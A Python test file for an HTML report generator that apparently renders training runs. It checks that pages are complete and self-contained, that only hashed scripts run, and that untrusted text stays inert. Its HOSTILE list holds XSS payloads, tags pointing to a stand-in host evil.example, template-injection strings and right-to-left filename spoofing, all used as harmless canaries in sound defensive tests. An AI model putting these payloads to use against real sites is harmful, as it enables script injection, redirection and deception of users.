"""The page as a document: whole, self-contained, and inert whatever a model or a run wrote."""

import json
import re
from base64 import b64encode
from hashlib import sha256
from html.parser import HTMLParser
from itertools import pairwise

import pytest

from forkpoint.report._section import Figure, Section, Table
from forkpoint.report._text import visible
from forkpoint.report.page import page, page_of, write_page
from tests.report.two_runs import DEFINITIONS, PLAIN, rollout_rows

CANARY = "window.canary=1"
HOSTILE = [
    f"<script>{CANARY}</script>",
    f"</script><script>{CANARY}</script>",
    f"<img src=x onerror={CANARY}>",
    f"<svg/onload={CANARY}>",
    f'"><details open ontoggle={CANARY}>',
    f"' onmouseover='{CANARY}",
    f'<a href="javascript:{CANARY}">click</a>',
    f"<iframe srcdoc='<script>parent.{CANARY}</script>'></iframe>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example><form action=//evil.example><input autofocus>",
    f"<math><mtext></mtext><mglyph><svg><mtext><style><img src onerror={CANARY}></style>",
    "<!--", "-->", "<![CDATA[", "]]>", "</textarea></title></style></noscript>",
    "{{ 7 * 7 }}{% raw %}${7*7}#{7*7}%{y}", "{{ ''.__class__.__mro__ }}",
    chr(0x202E) + "gnp.exe" + chr(0x2066), chr(0x200B) + "zero" + chr(0xFEFF), chr(0) + chr(27) + "[31mred" + chr(7),
    chr(0xD800) + "lone", "\u2028\u2029", "<b>bold</b><br>" + "&lt;script&gt;", "x" * 5000, "Z" + chr(0x0301) * 200,
]  # fmt: skip


class Document(HTMLParser):
    """What a browser would make of the page: tags in order, ids, scripts with their text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[tuple[dict[str, str | None], str]] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag == "script":
            self.scripts.append((dict(attrs), ""))

    def handle_data(self, data):
        if self.tags and self.tags[-1][0] == "script" and self.cdata_elem == "script":
            attributes, text = self.scripts.pop()
            self.scripts.append((attributes, text + data))

    def attributes(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.tags if name == tag]


@pytest.fixture(scope="session")
def text(two_runs):
    return page(two_runs)


@pytest.fixture
def hostile(make_run):
    """A run with hostile text wherever text can stand."""
    rows, size = [], len(HOSTILE)
    for index, attack in enumerate(HOSTILE):
        row = rollout_rows(PLAIN, seed=0)[0] | dict(
            step=160 * (index % 2), prompt=attack, text=attack, tokens=HOSTILE, verdict_reason=attack,
            entropy=[0.1, float("nan"), *[3.0] * (size - 2)], logp_sampler=[float("-inf")] * size,
            label=[1] * size, weight=[1.0] * size, mark=[False] * size, verdict=("correct", "wrong", "none")[index % 3],
            traits=json.dumps({attack: attack}),
        )  # fmt: skip
        rows.append(row)
    run = make_run("hostile", PLAIN, rollouts=rows)
    attack = "".join(HOSTILE[:24])
    run.header.update(name=attack, task=attack, config={attack: attack}, environment={"command": attack})
    run.header["method"] = {"name": attack, "settings": {attack: attack}, "intervenes": False}
    run.header["definitions"] = {key: {field: attack for field in value} for key, value in DEFINITIONS.items()}
    return run


def test_it_is_a_whole_document(text):
    document = Document(text)
    assert text.startswith("<!doctype html>")
    assert document.attributes("html") == [{"lang": "en"}]
    assert "<title>Where the entropy went: plain GRPO and fork thermostat</title>" in text
    for landmark in ("header", "nav", "main", "footer"):
        assert len(document.attributes(landmark)) == 1


def test_sections_stand_in_order_and_every_anchor_leads_somewhere(text):
    document = Document(text)
    ids = [attributes.get("id") for _, attributes in document.tags if attributes.get("id")]
    assert len(ids) == len(set(ids))
    links = [attributes["href"].removeprefix("#") for attributes in document.attributes("a")]
    assert links == [
        *("content", "summary", "learning", "pass_at_k", "entropy", "roles", "formats"),
        *("law", "backtest", "rollouts", "provenance"),
    ]
    assert set(links) <= set(ids)


def test_headings_never_skip_a_level(text):
    levels = [int(tag[1]) for tag, _ in Document(text).tags if re.fullmatch(r"h[1-6]", tag)]
    assert levels[0] == 1 and levels.count(1) == 1
    assert all(after - before <= 1 for before, after in pairwise(levels))


def test_only_the_hashed_scripts_can_run(text):
    document = Document(text)
    policy = next(a["content"] for a in document.attributes("meta") if a.get("http-equiv"))
    run = [code for attributes, code in document.scripts if attributes.get("type") != "application/json"]
    assert len(run) == 2
    for code in run:
        assert f"'sha256-{b64encode(sha256(code.encode()).digest()).decode()}'" in policy
    assert policy.startswith("default-src 'none'; script-src 'sha256-")
    script_rule = next(rule for rule in policy.split("; ") if rule.startswith("script-src"))
    assert "unsafe" not in script_rule and "http" not in policy


def test_nothing_is_loaded_from_elsewhere(text):
    loads = [a.get("src") or a.get("href") for tag, a in Document(text).tags if tag in ("img", "link", "iframe", "a")]
    assert all(target.startswith(("#", "data:")) for target in loads)


def test_figures_hold_strict_json_and_a_name(text):
    document = Document(text)
    data = {a["data-for"]: code for a, code in document.scripts if a.get("type") == "application/json"}
    plots = {a["id"]: a for a in document.attributes("div") if a.get("class") == "plot"}
    assert data.keys() == plots.keys() and len(plots) >= 12
    for name, code in data.items():
        json.loads(code, parse_constant=lambda constant, name=name: pytest.fail(f"{name} holds {constant}"))
        assert plots[name]["role"] == "img" and len(plots[name]["aria-label"]) > 40


def test_hostile_text_makes_no_tag_and_no_attribute(text, hostile, two_runs):
    """The hostile page has the tags of a harmless one, and no handler attribute at all."""
    document = Document(page([two_runs[0], hostile], title=HOSTILE[1]))
    assert {tag for tag, _ in document.tags} == {tag for tag, _ in Document(text).tags}
    names = {name for _, attributes in document.tags for name in attributes}
    assert not [name for name in names if name.startswith("on") or name in ("srcdoc", "action")]
    assert len([a for a, _ in document.scripts if a.get("type") != "application/json"]) == 2


def test_hidden_characters_are_spelled_out(hostile):
    text = page([hostile])
    body = text[: text.index("plotly.js v")]
    for character in (chr(0), chr(27), chr(0x202E), chr(0x2066), chr(0x200B), chr(0xFEFF), chr(0xD800), "\u2028"):
        assert character not in body
    assert "⟨U+202E⟩gnp.exe⟨U+2066⟩" in body
    text.encode("utf-8")


def test_a_huge_token_and_a_long_answer_are_cut_and_counted(make_run):
    row = rollout_rows(PLAIN, seed=0)[0]
    long = row | {key: row[key][:1] * 5000 for key in ("tokens", "entropy", "logp_sampler", "label", "weight", "mark")}
    huge = row | {"tokens": ["x" * 1_000_000, *row["tokens"][1:]]}
    text = page([make_run("long", PLAIN, rollouts=[long, huge])])
    assert "4,600 more tokens are not shown." in text
    assert "(+999,960 characters)" in text
    assert len(text) < 6_500_000


def test_values_that_are_not_finite_become_gaps(make_run):
    broken = PLAIN | {"accuracy": [0.461, float("nan"), float("inf"), *PLAIN["accuracy"][3:]]}
    text = page([make_run("broken", broken)])
    assert "NaN" not in re.sub(r"<script>.*?</script>", "", text, flags=re.S)
    assert "broken: 2 of 9 values of accuracy are not finite and leave a gap." in text


def test_a_page_is_written_whole(tmp_path):
    path = write_page("ä\n", tmp_path / "new" / "page.html")
    assert path.read_bytes() == "ä\n".encode()
    with pytest.raises(UnicodeEncodeError):
        write_page(chr(0xD800), path)
    assert path.read_bytes() == "ä\n".encode()
    assert [file.name for file in path.parent.iterdir()] == ["page.html"]


def test_without_runs_it_says_what_to_do():
    with pytest.raises(ValueError, match="name at least one run directory"):
        page([])


def test_a_page_of_sections_needs_no_run_and_is_as_inert():
    attack = "".join(HOSTILE[:24])
    trace = {"type": "scatter", "x": [1], "y": [float("nan")], "name": attack}
    table = Table([attack, attack], [[attack, attack]])
    open_table = Section(attack, attack, template="table.html.jinja", content=table)
    drawn = Section(attack, attack, [Figure(attack, [trace], {})], [(attack, attack)], attack, table, [attack])
    document = Document(page_of(attack, attack, [attack, "b"], [("one", open_table), ("two", drawn)]))
    harmless = Section("a", "a", [Figure("a", [trace | {"name": "a"}], {})], [("a", "a")], "a", table, ["a"])
    plain = Document(page_of("a", "a", ["a", "b"], [("one", open_table), ("two", harmless)]))
    assert [tag for tag, _ in document.tags] == [tag for tag, _ in plain.tags]
    assert [a.get("id") for a in document.attributes("section")] == ["one", "two"]
    assert len([a for a, _ in document.scripts if a.get("type") != "application/json"]) == 2


def test_a_page_without_arms_has_its_title_alone():
    assert "<title>Decoding</title>" in page_of("Decoding", "What pays.", [], [("one", Section("One", "It does."))])


def test_runs_with_one_name_are_numbered(two_runs):
    assert "<title>Where the entropy went: plain GRPO and plain GRPO (2)</title>" in page([two_runs[0], two_runs[0]])


def test_the_same_runs_give_the_same_page(two_runs, text):
    assert page(two_runs) == text


@pytest.mark.parametrize("name", ["Cc", "Cf", "Cs"])
def test_no_character_of_a_hidden_category_survives(name):
    import unicodedata

    every = [chr(code) for code in range(0x110000) if unicodedata.category(chr(code)) == name]
    shown = visible("".join(every), keep="")
    assert not [character for character in shown if unicodedata.category(character) == name]
